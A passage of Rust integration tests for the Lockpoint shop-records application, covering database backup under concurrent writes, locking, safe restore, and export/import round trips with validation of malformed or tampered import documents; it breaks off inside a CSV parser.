//! Backups, restore, export and import: through the real binary where a user would use it, and
//! through the router for the admin downloads.

use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::str::FromStr;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU32, AtomicUsize, Ordering};
use std::time::Duration;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use http_body_util::BodyExt;
use lockpoint::backup::{self, DbLock};
use lockpoint::db::export::{self, Document, ExportError};
use lockpoint::progress::Progress;
use lockpoint::records::date::Date;
use lockpoint::{db, demo};
use sqlx::sqlite::SqliteConnectOptions;
use sqlx::{Connection, SqliteConnection, SqlitePool};
use tower::ServiceExt;

use crate::support::{Server, TestApp, execute_on_file, newer_copy};

/// A temporary directory for one test's database, backups and exports; removed when dropped.
pub(crate) struct Scratch {
    dir: PathBuf,
}

impl Scratch {
    pub(crate) fn new() -> Self {
        static N: AtomicU32 = AtomicU32::new(0);
        let dir = std::env::temp_dir().join(format!(
            "lockpoint-backup-test-{}-{}",
            std::process::id(),
            N.fetch_add(1, Ordering::Relaxed)
        ));
        std::fs::create_dir_all(&dir).unwrap();
        Self { dir }
    }

    pub(crate) fn path(&self, name: &str) -> PathBuf {
        self.dir.join(name)
    }

    /// File names in the directory, sorted.
    fn names(&self) -> Vec<String> {
        let mut names: Vec<String> = std::fs::read_dir(&self.dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

pub(crate) fn lockpoint(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_lockpoint"))
        .args(args)
        .stdin(Stdio::null())
        .output()
        .expect("the binary runs")
}

pub(crate) fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

pub(crate) fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Starts `lockpoint serve` on `db` and waits until it answers a request (by then its
/// shutdown signal handler is installed too).
fn start_server(db: &Path) -> Server {
    let server = Server::start(db);
    let reply = server.get("/healthz");
    assert!(reply.starts_with("HTTP/1.1 200"), "{reply}");
    server
}

fn stop_server(mut server: Server) {
    let (status, _) = server.terminate_within(Duration::from_secs(30));
    assert!(status.success(), "clean exit on SIGTERM: {status:?}");
}

/// Runs `lockpoint serve` expecting it to give up at once; a server that starts is killed and
/// the test fails.
fn serve_expecting_refusal(db: &Path) -> Output {
    let child = Command::new(env!("CARGO_BIN_EXE_lockpoint"))
        .args(["serve", "--db", text(db), "--addr", "127.0.0.1:0"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut child = child;
    for _ in 0..200 {
        if child.try_wait().unwrap().is_some() {
            return child.wait_with_output().unwrap();
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let _ = child.kill();
    let _ = child.wait();
    panic!("a second server started on {}", db.display());
}

/// A single connection to a database file as it is (no migrations).
async fn connect(path: &Path) -> SqliteConnection {
    let options = SqliteConnectOptions::from_str("sqlite:")
        .unwrap()
        .filename(path)
        .create_if_missing(false);
    SqliteConnection::connect_with(&options).await.unwrap()
}

async fn customer_names(path: &Path) -> Vec<String> {
    let mut conn = connect(path).await;
    let names = sqlx::query_scalar("SELECT name FROM customers ORDER BY id")
        .fetch_all(&mut conn)
        .await
        .unwrap();
    conn.close().await.unwrap();
    names
}

async fn add_customer(pool: &SqlitePool, name: &str, notes: &str) -> i64 {
    sqlx::query_scalar("INSERT INTO customers (name, notes) VALUES (?, ?) RETURNING id")
        .bind(name)
        .bind(notes)
        .fetch_one(pool)
        .await
        .unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_backup_taken_while_writes_go_on_is_sound_and_holds_every_earlier_commit() {
    let scratch = Scratch::new();
    let db_path = scratch.path("shop.db");
    let pool = db::open(&db_path).await.unwrap();
    for i in 0..300 {
        add_customer(
            &pool,
            &format!("Early Customer {i}"),
            "two-door, 7.2 L V8, 4-speed",
        )
        .await;
    }

    // A writer that keeps committing new customers until told to stop.
    let stop = Arc::new(AtomicBool::new(false));
    let written = Arc::new(AtomicUsize::new(0));
    let writer = {
        let (pool, stop, written) = (pool.clone(), stop.clone(), written.clone());
        tokio::spawn(async move {
            while !stop.load(Ordering::Relaxed) {
                let n = written.load(Ordering::Relaxed);
                add_customer(
                    &pool,
                    &format!("Late Customer {n}"),
                    "bracket car, front-engine",
                )
                .await;
                written.fetch_add(1, Ordering::Relaxed);
            }
        })
    };
    while written.load(Ordering::Relaxed) < 20 {
        tokio::time::sleep(Duration::from_millis(5)).await;
    }

    let committed: Vec<i64> = sqlx::query_scalar("SELECT id FROM customers ORDER BY id")
        .fetch_all(&pool)
        .await
        .unwrap();
    let written_before = written.load(Ordering::Relaxed);
    let copy = scratch.path("copy.db");
    let args = [
        "backup".to_string(),
        text(&copy).to_string(),
        "--db".to_string(),
        text(&db_path).to_string(),
    ];
    let out = tokio::task::spawn_blocking(move || {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        lockpoint(&args)
    })
    .await
    .unwrap();
    let written_during = written.load(Ordering::Relaxed) - written_before;
    stop.store(true, Ordering::Relaxed);
    writer.await.unwrap();

    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).contains("integrity check ok"),
        "{}",
        stdout(&out)
    );
    assert!(
        written_during > 0,
        "the writer kept committing while the backup ran"
    );

    let checked = backup::check_file(&copy)
        .await
        .expect("the copy checks out");
    assert_eq!(checked.version, export::latest_known_version());
    let mut conn = connect(&copy).await;
    let integrity: String = sqlx::query_scalar("PRAGMA integrity_check")
        .fetch_one(&mut conn)
        .await
        .unwrap();
    assert_eq!(integrity, "ok");
    let in_copy: Vec<i64> = sqlx::query_scalar("SELECT id FROM customers ORDER BY id")
        .fetch_all(&mut conn)
        .await
        .unwrap();
    let missing: Vec<&i64> = committed
        .iter()
        .filter(|id| !in_copy.contains(id))
        .collect();
    assert!(
        missing.is_empty(),
        "committed before the backup but missing: {missing:?}"
    );
    let total: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM customers")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert!(in_copy.len() as i64 <= total);
    // One snapshot: every customer in the copy has the history row its own transaction wrote.
    let created: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM audit_log WHERE table_name = 'customers' AND action = 'create'",
    )
    .fetch_one(&mut conn)
    .await
    .unwrap();
    assert_eq!(created, in_copy.len() as i64);
    conn.close().await.unwrap();
    pool.close().await;
}

#[tokio::test]
async fn a_backup_never_overwrites_a_file() {
    let scratch = Scratch::new();
    let db_path = scratch.path("shop.db");
    db::open(&db_path).await.unwrap().close().await;
    let taken = scratch.path("taken.db");
    std::fs::write(&taken, "keep me").unwrap();
    let out = lockpoint(&["backup", text(&taken), "--db", text(&db_path)]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("already exists"), "{}", stderr(&out));
    assert_eq!(std::fs::read_to_string(&taken).unwrap(), "keep me");

    let out = lockpoint(&[
        "backup",
        text(&scratch.path("x.db")),
        "--db",
        text(&scratch.path("none.db")),
    ]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("no database at"), "{}", stderr(&out));
    assert!(
        !scratch.path("none.db").exists(),
        "a backup does not create a database"
    );
}

#[test]
fn the_database_lock_is_exclusive_and_released_when_dropped() {
    let scratch = Scratch::new();
    let db_path = scratch.path("shop.db");
    let first = DbLock::try_acquire(&db_path)
        .unwrap()
        .expect("a free lock is taken");
    assert!(
        DbLock::try_acquire(&db_path).unwrap().is_none(),
        "a held lock is refused"
    );
    assert!(backup::lock_path(&db_path).exists());
    drop(first);
    assert!(
        !backup::lock_path(&db_path).exists(),
        "the holder removes the lock file"
    );
    assert!(
        DbLock::try_acquire(&db_path).unwrap().is_some(),
        "a dropped lock is free again"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn restore_is_refused_while_the_server_runs_and_brings_the_backup_back_once_it_stops() {
    let scratch = Scratch::new();
    let db_path = scratch.path("shop.db");
    let saved = scratch.path("saved.db");
    let pool = db::open(&db_path).await.unwrap();
    add_customer(&pool, "Orla Brennick", "two-door, 7.0 L, 4-speed").await;
    add_customer(&pool, "Tomas Yelverton", "altered, blown big-block").await;
    backup::backup_file(&db_path, &saved, &mut Progress::none())
        .await
        .unwrap();
    add_customer(&pool, "After The Backup", "must go away on restore").await;
    pool.close().await;

    let server = start_server(&db_path);
    let second = serve_expecting_refusal(&db_path);
    assert!(
        !second.status.success(),
        "a second server on the same file is refused"
    );
    assert!(
        stderr(&second).contains("another Lockpoint server"),
        "{}",
        stderr(&second)
    );

    let refused = lockpoint(&["restore", text(&saved), "--db", text(&db_path)]);
    stop_server(server);
    assert!(!refused.status.success(), "restore under a running server");
    assert!(
        stderr(&refused).contains("server is running"),
        "{}",
        stderr(&refused)
    );
    assert_eq!(
        customer_names(&db_path).await,
        ["Orla Brennick", "Tomas Yelverton", "After The Backup"],
        "a refused restore changes nothing"
    );
    assert!(
        !scratch
            .names()
            .iter()
            .any(|n| n.contains("before-restore") || n.contains("restoring")),
        "{:?}",
        scratch.names()
    );

    let done = lockpoint(&["restore", text(&saved), "--db", text(&db_path)]);
    assert!(done.status.success(), "{}", stderr(&done));
    assert_eq!(
        customer_names(&db_path).await,
        customer_names(&saved).await,
        "the database now holds what the backup holds"
    );
    assert_eq!(
        customer_names(&db_path).await,
        ["Orla Brennick", "Tomas Yelverton"]
    );
    let safety: Vec<String> = scratch
        .names()
        .into_iter()
        .filter(|n| n.starts_with("shop.db.before-restore-"))
        .collect();
    assert_eq!(safety.len(), 1, "{:?}", scratch.names());
    assert!(stdout(&done).contains(&safety[0]), "{}", stdout(&done));
    assert_eq!(
        customer_names(&scratch.path(&safety[0])).await,
        ["Orla Brennick", "Tomas Yelverton", "After The Backup"],
        "the replaced database is kept"
    );
    assert!(
        !scratch.names().iter().any(|n| n.contains("restoring")),
        "{:?}",
        scratch.names()
    );

    // The restored file serves again.
    let server = start_server(&db_path);
    stop_server(server);
}

#[tokio::test]
async fn restore_refuses_damaged_and_foreign_files_and_leaves_the_database_alone() {
    let scratch = Scratch::new();
    let db_path = scratch.path("shop.db");
    let pool = db::open(&db_path).await.unwrap();
    for i in 0..200 {
        add_customer(
            &pool,
            &format!("Kept Customer {i}"),
            &"dragster notes ".repeat(20),
        )
        .await;
    }
    let good = scratch.path("good.db");
    backup::backup_pool(&pool, &good, &mut Progress::none())
        .await
        .unwrap();
    pool.close().await;
    let before = customer_names(&db_path).await;

    let garbage = scratch.path("garbage.db");
    std::fs::write(
        &garbage,
        "these are not the records you are looking for\n".repeat(100),
    )
    .unwrap();

    let foreign = scratch.path("foreign.db");
    execute_on_file(
        &foreign,
        "CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT)",
    )
    .await;

    let newer = scratch.path("newer.db");
    newer_copy(&good, &newer).await;

    // Every page after the first two overwritten: the schema reads, the records do not.
    let corrupt = scratch.path("corrupt.db");
    let mut bytes = std::fs::read(&good).unwrap();
    assert!(bytes.len() > 4 * 4096, "{} bytes", bytes.len());
    for b in bytes.iter_mut().skip(2 * 4096) {
        *b = 0x5A;
    }
    std::fs::write(&corrupt, bytes).unwrap();

    for (file, why) in [
        (&garbage, "not a usable SQLite database"),
        (&foreign, "not a Lockpoint database"),
        (&newer, "newer Lockpoint"),
        (&corrupt, "corrupt.db"),
        (&scratch.path("missing.db"), "no backup file"),
    ] {
        let out = lockpoint(&["restore", text(file), "--db", text(&db_path)]);
        assert!(!out.status.success(), "{} was restored", file.display());
        assert!(
            stderr(&out).contains(why),
            "{}: {}",
            file.display(),
            stderr(&out)
        );
        assert_eq!(customer_names(&db_path).await, before);
    }
    assert_eq!(
        scratch.names(),
        [
            "corrupt.db",
            "foreign.db",
            "garbage.db",
            "good.db",
            "newer.db",
            "shop.db",
        ],
        "no staged copy or safety copy is left behind"
    );
}

/// The demo shop plus values that are hard to carry exactly: reals with long decimal
/// expansions (within the cars' limits, which an import checks), and text with quotes, commas,
/// newlines and non-ASCII letters.
async fn demo_shop(path: &Path) -> SqlitePool {
    let pool = db::open(path).await.unwrap();
    assert!(demo::seed_if_empty(&pool).await.unwrap());
    let car: i64 = sqlx::query_scalar("SELECT MIN(id) FROM cars")
        .fetch_one(&pool)
        .await
        .unwrap();
    sqlx::query(
        "UPDATE cars SET weight_kg = ?, first_gear_ratio = ?, final_drive_ratio = ?,
             notes = ? WHERE id = ?",
    )
    .bind(1000.0 + 0.1 + 0.2)
    .bind(2.0_f64.sqrt())
    .bind(1.0 + f64::EPSILON)
    .bind("Søren's \"Tuesday\" car,\r\nlaunches at 5,400")
    .bind(car)
    .execute(&pool)
    .await
    .unwrap();
    pool
}

/// The JSON export of the database behind `pool`, as `lockpoint export` writes it.
async fn export_text(pool: &SqlitePool) -> String {
    let mut tx = pool.begin().await.unwrap();
    let plan = export::plan(&mut tx).await.unwrap();
    let mut json = export::JsonWriter::begin(Vec::new(), plan.version).unwrap();
    let rows = export::write(&mut tx, &plan, &mut json, None, &mut Progress::none())
        .await
        .unwrap();
    assert_eq!(rows, plan.rows());
    tx.rollback().await.unwrap();
    String::from_utf8(json.finish().unwrap()).unwrap()
}

/// `text` imported into the database behind `pool` in one transaction, committed only when the
/// import succeeds.
async fn import_text(pool: &SqlitePool, text: &str) -> Result<export::Imported, ExportError> {
    let mut tx = pool.begin_with("BEGIN IMMEDIATE").await.unwrap();
    let done = export::import(
        &mut tx,
        &Document::from(text.to_string()),
        &mut Progress::none(),
    )
    .await;
    match done {
        Ok(_) => tx.commit().await.unwrap(),
        Err(_) => tx.rollback().await.unwrap(),
    }
    done
}

#[tokio::test]
async fn export_then_import_into_a_new_database_exports_the_identical_document() {
    let scratch = Scratch::new();
    let first = demo_shop(&scratch.path("first.db")).await;
    let document = export_text(&first).await;

    let second = db::open(&scratch.path("second.db")).await.unwrap();
    let imported = import_text(&second, &document).await.unwrap();
    let parsed: serde_json::Value = serde_json::from_str(&document).unwrap();
    let rows: usize = parsed["tables"]
        .as_object()
        .unwrap()
        .values()
        .map(|rows| rows.as_array().unwrap().len())
        .sum();
    assert_eq!(imported.rows, rows);
    let again = export_text(&second).await;
    assert!(
        document == again,
        "the second export differs from the first"
    );

    // The document is complete and typed.
    let json: serde_json::Value = serde_json::from_str(&document).unwrap();
    assert_eq!(json["format"], "lockpoint-export");
    assert_eq!(json["version"], export::latest_known_version());
    let tables = json["tables"].as_object().unwrap();
    for table in [
        "customers",
        "cars",
        "builds",
        "passes",
        "users",
        "shop_settings",
        "audit_log",
    ] {
        assert!(
            tables[table]
                .as_array()
                .is_some_and(|rows| !rows.is_empty()),
            "{table} is exported"
        );
    }
    for skipped in ["sessions", "login_throttle", "_sqlx_migrations"] {
        assert!(!tables.contains_key(skipped), "{skipped} is not exported");
    }
    assert!(
        tables["users"][0]["password_hash"]
            .as_str()
            .is_some_and(|h| h.starts_with("$argon2"))
    );
    assert!(tables["customers"][0]["id"].is_i64());
    assert!(
        document.contains("1000.3000000000001"),
        "reals are written exactly"
    );
    assert!(
        document.contains("1.0000000000000002"),
        "{}",
        &document[..200]
    );
    // Parents come before the tables that refer to them.
    let at = |t: &str| document.find(&format!("\n    \"{t}\": [")).unwrap();
    assert!(
        at("customers") < at("cars") && at("cars") < at("builds") && at("builds") < at("passes")
    );
    assert!(at("users") < at("api_tokens"));

    // The audit triggers are back after the import, and record new work as before.
    let triggers = |pool: SqlitePool| async move {
        sqlx::query_scalar::<_, i64>("SELECT COUNT(*) FROM sqlite_master WHERE type = 'trigger'")
            .fetch_one(&pool)
            .await
            .unwrap()
    };
    assert!(triggers(first.clone()).await > 0);
    assert_eq!(
        triggers(first.clone()).await,
        triggers(second.clone()).await
    );
    let history = |pool: SqlitePool| async move {
        sqlx::query_scalar::<_, i64>("SELECT COUNT(*) FROM audit_log")
            .fetch_one(&pool)
            .await
            .unwrap()
    };
    let before = history(second.clone()).await;
    add_customer(&second, "New After Import", "").await;
    assert_eq!(history(second.clone()).await, before + 1);
    first.close().await;
    second.close().await;
}

/// Whether any file in `dir` has `name` in its file name.
fn files_contain(dir: &Path, name: &str) -> bool {
    std::fs::read_dir(dir)
        .unwrap()
        .any(|e| e.unwrap().file_name().to_string_lossy().contains(name))
}

#[tokio::test]
async fn the_export_and_import_commands_round_trip_every_file() {
    let scratch = Scratch::new();
    let shop = scratch.path("shop.db");
    demo_shop(&shop).await.close().await;
    let out = lockpoint(&["export", text(&scratch.path("one")), "--db", text(&shop)]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stdout(&out).contains("keep it private"), "{}", stdout(&out));

    let fresh = scratch.path("fresh.db");
    let json = scratch.path("one").join("lockpoint-export.json");
    let out = lockpoint(&["import", text(&json), "--db", text(&fresh)]);
    assert!(out.status.success(), "{}", stderr(&out));
    let out = lockpoint(&["export", text(&scratch.path("two")), "--db", text(&fresh)]);
    assert!(out.status.success(), "{}", stderr(&out));
    // The imported shop's derived tables are worked out: every build has a current work-due
    // status, and the counter's list is the one the full history gives.
    {
        let pool = db::open(&fresh).await.unwrap();
        let mut conn = pool.acquire().await.unwrap();
        let (builds, current): (i64, i64) = sqlx::query_as(
            "SELECT (SELECT COUNT(*) FROM builds),
                    (SELECT COUNT(*) FROM build_status WHERE stale = 0)",
        )
        .fetch_one(&mut *conn)
        .await
        .unwrap();
        assert_eq!(builds, current);
        assert!(!files_contain(&scratch.path("one"), "build_status"));
        drop(conn);
        pool.close().await;
    }

    let files = |dir: &str| {
        let mut names: Vec<String> = std::fs::read_dir(scratch.path(dir))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        names
    };
    assert_eq!(files("one"), files("two"));
    assert!(files("one").contains(&"customers.csv".to_string()));
    assert!(files("one").len() > 10, "{:?}", files("one"));
    for name in files("one") {
        let a = std::fs::read(scratch.path("one").join(&name)).unwrap();
        let b = std::fs::read(scratch.path("two").join(&name)).unwrap();
        assert!(a == b, "{name} differs after export, import, export");
    }

    // Exporting into the same directory again would overwrite: refused.
    let out = lockpoint(&["export", text(&scratch.path("one")), "--db", text(&shop)]);
    assert!(!out.status.success());
    assert!(stderr(&out).contains("already exists"), "{}", stderr(&out));
    // Importing twice: the database is no longer empty.
    let out = lockpoint(&["import", text(&json), "--db", text(&fresh)]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("already holds records"),
        "{}",
        stderr(&out)
    );
}

#[tokio::test]
async fn import_is_refused_into_a_database_with_records_and_for_a_wrong_document() {
    let scratch = Scratch::new();
    let demo_pool = demo_shop(&scratch.path("demo.db")).await;
    let document = export_text(&demo_pool).await;
    demo_pool.close().await;

    // TestApp's database has two staff accounts and nothing else.
    let app = TestApp::new().await;
    let refused = import_text(&app.pool, &document).await;
    match refused {
        Err(ExportError::Refused(why)) => {
            assert!(
                why.contains("already holds records") && why.contains("users: 2"),
                "{why}"
            )
        }
        other => panic!("import into a database with records: {other:?}"),
    }
    assert_eq!(app.count("users").await, 2);
    assert_eq!(app.count("customers").await, 0);

    // A document from a newer program, and things that are not exports at all.
    let empty = db::open(&scratch.path("empty.db")).await.unwrap();
    let mut newer: serde_json::Value = serde_json::from_str(&document).unwrap();
    newer["version"] = (export::latest_known_version() + 1).into();
    let refused = import_text(&empty, &newer.to_string()).await;
    assert!(
        matches!(&refused, Err(ExportError::Refused(why)) if why.contains("newer Lockpoint")),
        "{refused:?}"
    );
    for text in [
        "{}",
        "[1, 2]",
        r#"{"format": "something-else", "version": 1, "tables": {}}"#,
        r#"{"format": "lockpoint-export", "version": 1, "tables": {"customers": [{"id": true}]}}"#,
    ] {
        let refused = import_text(&empty, text).await;
        assert!(
            matches!(refused, Err(ExportError::Format(_))),
            "{text}: {refused:?}"
        );
    }
    let count: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM customers")
        .fetch_one(&empty)
        .await
        .unwrap();
    assert_eq!(count, 0);
    empty.close().await;
}

/// The demo shop's export as a JSON value, for a test to alter.
pub(crate) async fn demo_document(scratch: &Scratch) -> serde_json::Value {
    let pool = demo_shop(&scratch.path("demo.db")).await;
    let document = export_text(&pool).await;
    pool.close().await;
    serde_json::from_str(&document).unwrap()
}

/// Runs `lockpoint import` of `document` into a new, empty database, insists that it is
/// refused and that the database holds no records afterwards (nothing partial), and returns the
/// message. Into a path with no database yet, the same refusal leaves no file behind.
pub(crate) async fn import_refused(
    scratch: &Scratch,
    case: &str,
    document: &serde_json::Value,
) -> String {
    let json = scratch.path(&format!("{case}.json"));
    std::fs::write(&json, serde_json::to_string_pretty(document).unwrap()).unwrap();
    let fresh = scratch.path(&format!("{case}-fresh.db"));
    let out = lockpoint(&["import", text(&json), "--db", text(&fresh)]);
    assert!(
        !out.status.success(),
        "{case} was imported: {}",
        stdout(&out)
    );
    assert!(!fresh.exists(), "{case} left a new database behind");
    let db_path = scratch.path(&format!("{case}.db"));
    db::open(&db_path).await.unwrap().close().await;
    let out = lockpoint(&["import", text(&json), "--db", text(&db_path)]);
    assert!(
        !out.status.success(),
        "{case} was imported: {}",
        stdout(&out)
    );
    assert!(
        stderr(&out).starts_with("error: "),
        "{case}: {}",
        stderr(&out)
    );
    let pool = db::open(&db_path).await.unwrap();
    let mut conn = pool.acquire().await.unwrap();
    let present = export::records_present(&mut conn).await.unwrap();
    assert!(present.is_empty(), "{case} left records: {present:?}");
    let settings: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM shop_settings WHERE id = 1")
        .fetch_one(&mut *conn)
        .await
        .unwrap();
    assert_eq!(settings, 1, "{case} left the shop settings row");
    drop(conn);
    pool.close().await;
    stderr(&out)
}

/// `document` with `rows` as table `name` (added or replaced).
fn with_table(
    document: &serde_json::Value,
    name: &str,
    rows: serde_json::Value,
) -> serde_json::Value {
    let mut document = document.clone();
    document["tables"][name] = rows;
    document
}

#[tokio::test]
async fn import_refuses_tables_an_export_never_writes() {
    let scratch = Scratch::new();
    let document = demo_document(&scratch).await;
    let stamp = "2026-01-01T00:00:00Z";
    let cases = [
        (
            "migrations",
            "_sqlx_migrations",
            serde_json::json!([{"version": 99, "description": "later", "installed_on": stamp,
                "success": 1, "checksum": {"$blob": "00"}, "execution_time": 1}]),
            "never holds",
        ),
        (
            "session",
            "sessions",
            serde_json::json!([{"token_hash": "0f", "user_id": 1, "csrf_token": "c",
                "expires_at": "2099-01-01T00:00:00Z", "created_at": stamp, "updated_at": stamp}]),
            "never holds",
        ),
        (
            "no_sessions",
            "sessions",
            serde_json::json!([]),
            "never holds",
        ),
        (
            "spelled_sessions",
            "Sessions",
            serde_json::json!([]),
            "never holds",
        ),
        (
            "throttle",
            "login_throttle",
            serde_json::json!([]),
            "never holds",
        ),
        (
            "unknown",
            "extras",
            serde_json::json!([{"id": 1}]),
            "this database does not have",
        ),
        (
            "spelled_customers",
            "Customers",
            serde_json::json!([]),
            "this database does not have",
        ),
    ];
    for (case, table, rows, why) in cases {
        let message = import_refused(&scratch, case, &with_table(&document, table, rows)).await;
        assert!(
            message.contains(&format!("table {table:?}")) && message.contains(why),
            "{case}: {message}"
        );
    }
}

#[tokio::test]
async fn import_requires_the_shop_settings_and_audit_actor_rows() {
    let scratch = Scratch::new();
    let document = demo_document(&scratch).await;
    let settings = document["tables"]["shop_settings"][0].clone();
    let mut other_id = settings.clone();
    other_id["id"] = 2.into();
    let actor = document["tables"]["audit_actor"][0].clone();
    let without = |table: &str| {
        let mut d = document.clone();
        d["tables"].as_object_mut().unwrap().remove(table).unwrap();
        d
    };
    let (no_settings, no_actor) = (without("shop_settings"), without("audit_actor"));
    let cases = [
        ("settings_missing", "shop_settings", no_settings, "no table"),
        (
            "settings_empty",
            "shop_settings",
            with_table(&document, "shop_settings", serde_json::json!([])),
            "holds none",
        ),
        (
            "settings_other_id",
            "shop_settings",
            with_table(&document, "shop_settings", serde_json::json!([other_id])),
            "id 1",
        ),
        (
            "settings_twice",
            "shop_settings",
            with_table(
                &document,
                "shop_settings",
                serde_json::json!([settings, other_id]),
            ),
            "holds 2 rows",
        ),
        ("actor_missing", "audit_actor", no_actor, "no table"),
        (
            "actor_empty",
            "audit_actor",
            with_table(&document, "audit_actor", serde_json::json!([])),
            "holds none",
        ),
    ];
    for (case, table, document, why) in cases {
        let message = import_refused(&scratch, case, &document).await;
        assert!(
            message.contains(&format!("table {table:?}")) && message.contains(why),
            "{case}: {message}"
        );
    }

    // An export made before the audit history existed (migration 4) has no audit actor row:
    // it imports, and the new database keeps its own.
    let mut old = document.clone();
    old["version"] = 3.into();
    let tables = old["tables"].as_object_mut().unwrap();
    tables.remove("audit_actor");
    tables.remove("audit_log");
    for (table, column) in [
        ("users", "display_name"),
        ("shop_settings", "time_zone"),
        ("setup_changes", "adjuster_turns_each"),
    ] {
        for row in tables[table].as_array_mut().unwrap() {
            row.as_object_mut().unwrap().remove(column);
        }
    }
    let json = scratch.path("old.json");
    std::fs::write(&json, serde_json::to_string(&old).unwrap()).unwrap();
    let fresh = scratch.path("old.db");
    let out = lockpoint(&["import", text(&json), "--db", text(&fresh)]);
    assert!(out.status.success(), "{}", stderr(&out));
    let pool = db::open(&fresh).await.unwrap();
    let kept: (i64, String) = sqlx::query_as("SELECT id, username FROM audit_actor")
        .fetch_one(&pool)
        .await
        .unwrap();
    assert_eq!(kept, (actor["id"].as_i64().unwrap(), "system".to_string()));
    pool.close().await;
}

#[tokio::test]
async fn import_runs_every_record_row_through_its_checks_and_names_the_cell() {
    let scratch = Scratch::new();
    let document = demo_document(&scratch).await;
    // (table, column set, value, the column the message names, what it says)
    let cases: &[(&str, &str, serde_json::Value, &str, &str)] = &[
        (
            "builds",
            "facing_od_mm",
            "abc".into(),
            "facing_od_mm",
            "expected a number, found text \"abc\"",
        ),
        (
            "builds",
            "facing_od_mm",
            5000.0.into(),
            "facing_od_mm",
            "at most 400 mm",
        ),
        (
            "builds",
            "facing_od_mm",
            serde_json::Value::Null,
            "facing_od_mm",
            "required",
        ),
        (
            "builds",
            "facing_id_mm",
            399.0.into(),
            "facing_id_mm",
            "smaller than the outer",
        ),
        (
            "builds",
            "disc_count",
            1.5.into(),
            "disc_count",
            "expected a whole number",
        ),
        (
            "builds",
            "facing_material",
            "cardboard".into(),
            "facing_material",
            "choose",
        ),
        (
            "builds",
            "shim_stack_mm",
            "[0.5, \"x\"]".into(),
            "shim_stack_mm",
            "expected a JSON list of numbers",
        ),
        (
            "builds",
            "shim_stack_mm",
            "[0.5, 9.0]".into(),
            "shim_stack_mm[1]",
            "shim 2",
        ),
        (
            "cars",
            "weight_kg",
            0.3.into(),
            "weight_kg",
            "must be between",
        ),
        (
            "cars",
            "torque_curve_nm",
            "{}".into(),
            "torque_curve_nm",
            "[rpm, N*m] pairs",
        ),
        ("customers", "name", "".into(), "name", "required"),
        (
            "customers",
            "email",
            "not an address".into(),
            "email",
            "needs an @",
        ),
        (
            "setup_changes",
            "adjuster_turns_each",
            "[1.0, 25.0]".into(),
            "adjuster_turns_each[1]",
            "adjuster 2: must be between",
        ),
        (
            "setup_changes",
            "changed_on",
            "2099-01-01".into(),
            "changed_on",
            "later than",
        ),
        (
            "bench_tests",
            "tested_on",
            "soon".into(),
            "tested_on",
            "YYYY-MM-DD",
        ),
        (
            "bench_springs",
            "force_n",
            (-5.0).into(),
            "force_n",
            "at most 50,000 N",
        ),
        (
            "cover_heights",
            "new_disc",
            2.into(),
            "new_disc",
            "expected 0 or 1",
        ),
        (
            "cover_heights",
            "passes",
            (-1).into(),
            "passes",
            "must be between",
        ),
        (
            "passes",
            "run_on",
            "2099-01-01".into(),
            "run_on",
            "later than",
        ),
        ("passes", "et_s", 0.6.into(), "et_s", "must be between"),
        (
            "passes",
            "et_s",
            1.2.into(),
            "et_s",
            "longer than the 60-ft",
        ),
        (
            "shop_settings",
            "units",
            "furlongs".into(),
            "units",
            "choose",
        ),
        (
            "shop_settings",
            "time_zone",
            "Nowhere/Atlantis".into(),
            "time_zone",
            "time zone",
        ),
        (
            "audit_log",
            "user_id",
            "abc".into(),
            "user_id",
            "expected a whole number",
        ),
        (
            "users",
            "created_at",
            5.into(),
            "created_at",
            "expected text",
        ),
    ];
    let mut wrong = Vec::new();
    for (n, (table, column, value, names, says)) in cases.iter().enumerate() {
        let mut document = document.clone();
        let row = document["tables"][*table][0]
            .as_object_mut()
            .unwrap_or_else(|| panic!("the demo shop has {table}"));
        assert!(row.contains_key(*column), "{table}.{column}");
        row.insert(column.to_string(), value.clone());
        let id = row["id"].as_i64().unwrap();
        let case = format!("{n}-{table}-{column}");
        let message = import_refused(&scratch, &case, &document).await;
        let place = format!("table {table:?}, row 1 (id {id}), column {names:?}: ");
        if !(message.contains(&place) && message.contains(says)) {
            wrong.push(format!("{case}: expected {place}{says}\n{message}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));

    // A row the database itself refuses (a CHECK constraint) is named by its place too.
    let mut document = document.clone();
    document["tables"]["users"][0]["role"] = "owner".into();
    let message = import_refused(&scratch, "role", &document).await;
    assert!(
        message.contains("table \"users\", row 1") && message.contains("role"),
        "{message}"
    );
}

/// Splits RFC 4180 text into records of fields, insisting on CRLF after every record.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
